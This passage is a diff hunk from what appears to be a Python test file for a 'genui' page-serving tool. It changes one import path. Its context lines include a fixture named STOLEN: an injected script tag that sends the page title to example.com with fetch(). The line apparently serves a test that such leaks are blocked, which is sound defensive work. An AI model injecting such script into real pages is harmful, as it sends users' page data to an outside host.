@@ -11,7 +11,7 @@ from serving import Quiet
 from genui.canonical import sha256
 from genui.cli import main
 from genui.inert import prove
-from genui.serve.shelf import ALLOW
+from genui.serve.directory import ALLOW
 
 PAGE = (Path(__file__).parent / "cases" / "pages" / "ok-plain" / "page.html").read_text(encoding="utf-8")
 STOLEN = b"<script>fetch('https://example.com/' + document.title)</script></body>"
